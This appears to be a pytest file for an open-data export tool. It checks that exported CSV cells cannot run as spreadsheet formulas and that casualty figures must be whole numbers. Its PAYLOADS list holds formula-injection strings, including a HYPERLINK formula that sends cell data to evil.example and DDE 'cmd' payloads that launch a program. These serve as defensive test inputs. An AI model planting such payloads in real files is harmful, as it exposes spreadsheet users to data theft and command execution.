"""Class 5 of issue 11: the open-data exports cannot attack the people who open them.

CSV cells beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return were exported
unchanged, and a spreadsheet runs them as formulas (``=HYPERLINK(...)``, ``=cmd|...``).
A float such as ``5.0`` in an integer field passed validation, skipped the low ≤ best ≤
high check, and made ``claims.csv`` fail its own data package. Each test is the attack.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from test_exports import exported, frictionless_errors, rows, write
from testdata import DataDir

from briefing.publish.exports import FORMULA_START

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "=1+1;=2+2"]


def _quoted(text: str) -> str:
    """``text`` as a double-quoted YAML scalar."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_any_text_cell_is_exported_as_text(data_dir: DataDir, payload: str) -> None:
    data_dir.edit("incidents", "title: Exchange of fire reported near Town Y", f"title: {_quoted(payload)}")
    data_dir.edit("incidents", "  place: Town Y\n", f"  place: {_quoted(payload)}\n")
    data_dir.edit("incidents", "      claimant: Spokesperson of Side B", f"      claimant: {_quoted(payload)}")
    data_dir.edit("incidents", "casualty_rule: Lowest reported figure.", f"casualty_rule: {_quoted(payload)}")
    # The name's quote contains the name, and the description's and parent's quotes name the
    # place (place-not-in-quote): the hostile text is in each, so the data is valid and attacks.
    data_dir.edit("regions", '{name: Town Y, lang: en, used_by: [side-a], citations: [{source: source-one, quote: "near Town Y"}]}',
                  f"{{name: {_quoted(payload)}, lang: en, used_by: [side-a], "
                  f"citations: [{{source: source-one, quote: {_quoted('near ' + payload)}}}]}}")
    data_dir.edit("regions", '    citations: [{source: source-two, quote: "the town of Town Y"}]\n'
                             '  parent_citations: [{source: source-two, quote: "the town of Town Y"}]\n',
                  f"    citations: [{{source: source-two, quote: {_quoted('the town of ' + payload)}}}]\n"
                  f"  parent_citations: [{{source: source-two, quote: {_quoted('the town of ' + payload)}}}]\n")

    files = exported(data_dir)

    for name in ("incidents", "claims", "sources", "removed"):
        for row in rows(files, name):
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_START), f"{name}.csv {column}: {cell!r}"
    (incident,) = rows(files, "incidents")
    assert incident["title"] == "'" + payload and incident["location"] == "'" + payload
    assert incident["casualty_rule"] == "'" + payload
    assert incident["region_names"].startswith("'" + payload)
    assert rows(files, "claims")[1]["claimant"] == "'" + payload
    # every text cell is quoted: a spreadsheet splitting at ';' cannot open a new cell inside one
    raw = files["data/incidents.csv"].decode("utf-8")
    assert '"\'' + payload.replace('"', '""') + '"' in raw


def test_numbers_stay_numbers_even_negative_ones(data_dir: DataDir, tmp_path: Path) -> None:
    data_dir.edit("incidents", "coordinates: {lat: 40.1, lon: 45.2, precision: near,",
                  "coordinates: {lat: -12.5, lon: -45.25, precision: near,")
    data_dir.edit("regions", "    lat: 40.1\n    lon: 45.2\n", "    lat: -12.5\n    lon: -45.25\n")

    files = exported(data_dir)

    raw = files["data/incidents.csv"].decode("utf-8")
    (record,) = list(csv.reader(io.StringIO(raw.split("\r\n", 1)[1], newline="")))
    assert ",-12.5,-45.25," in raw
    (incident,) = rows(files, "incidents")
    assert (incident["latitude"], incident["longitude"], incident["wounded_best"]) == ("-12.5", "-45.25", "1")
    assert record
    assert frictionless_errors(write(files, tmp_path / "out")) == []


def test_hostile_text_still_gives_a_valid_data_package(data_dir: DataDir, tmp_path: Path) -> None:
    data_dir.edit("incidents", "      text: Side A opened fire first.\n", f"      text: {_quoted(PAYLOADS[0])}\n")
    data_dir.edit("incidents", "title: Exchange of fire reported near Town Y", f"title: {_quoted(PAYLOADS[1])}")
    data_dir.edit("incidents", "  place: Town Y\n", f"  place: {_quoted(PAYLOADS[4])}\n")

    assert frictionless_errors(write(exported(data_dir), tmp_path / "out")) == []


@pytest.mark.parametrize(("old", "new", "place"), [
    ("casualties: [{party: side-a, wounded: 1}]", "casualties: [{party: side-a, wounded: 5.0}]",
     "data/incidents.yaml:25:45: 2021-01-05-town-y: claims[0].casualties[0].wounded must be a whole number, "
     "not the number 5.0 (hint: write 5, without the decimal point) [wrong-type]"),
    ("wounded: {low: 1, best: 1, high: 1}", "wounded: {low: 1, best: 1.0, high: 1}",
     "data/incidents.yaml:49:31: 2021-01-05-town-y: casualties[0].wounded.best must be a whole number, "
     "not the number 1.0 (hint: write 1, without the decimal point) [wrong-type]"),
    ("wounded: {low: 1, best: 1, high: 1}", "wounded: {low: 3, best: 2e0, high: 1}",
     "data/incidents.yaml:49:31: 2021-01-05-town-y: casualties[0].wounded.best must be a whole number, "
     "not the number 2.0 (hint: write 2, without the decimal point) [wrong-type]"),
    ("wounded: {low: 1, best: 1, high: 1}", "wounded: {low: 1, best: 1.5, high: 1}",
     "data/incidents.yaml:49:31: 2021-01-05-town-y: casualties[0].wounded.best must be a whole number, "
     "not the number 1.5 [wrong-type]"),
])
def test_a_figure_written_with_a_decimal_point_is_refused_with_its_place(
        data_dir: DataDir, old: str, new: str, place: str) -> None:
    data_dir.edit("incidents", old, new)

    errors = [str(e) for e in data_dir.errors()]

    assert place in errors


def test_low_best_high_are_compared_once_every_figure_is_whole(data_dir: DataDir) -> None:
    data_dir.edit("incidents", "wounded: {low: 1, best: 1, high: 1}", "wounded: {low: 3, best: 2, high: 1}")

    assert "low 3, best 2, high 1 are not in order" in data_dir.error().message


def test_claims_csv_keeps_its_integer_promise(data_dir: DataDir, tmp_path: Path) -> None:
    files = exported(data_dir)

    assert frictionless_errors(write(files, tmp_path / "out")) == []
    assert [row["reported_wounded"] for row in rows(files, "claims")] == ["1", ""]
